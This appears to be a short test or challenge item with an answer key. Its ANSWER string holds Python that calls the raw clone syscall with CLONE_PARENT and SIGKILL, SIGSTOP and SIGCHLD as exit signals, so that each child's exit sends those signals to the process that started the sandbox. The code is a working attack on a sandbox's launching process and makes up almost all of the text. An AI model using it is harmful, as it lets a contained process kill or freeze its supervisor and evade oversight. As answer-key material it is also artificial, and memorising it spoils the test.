"""Lets the end of a child, made its own sibling, send SIGKILL to whoever started the box."""

ANSWER = """
PARENT = 0x8000
print("about to fork")
for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGCHLD):
    if libc.syscall(NUMBERS["clone"][os.uname().machine != "x86_64"],
                    PARENT | number, 0, 0, 0, 0) == 0:
        os._exit(0)
time.sleep(0.1)
print("forked")
"""
EVIDENCE = "about to fork"
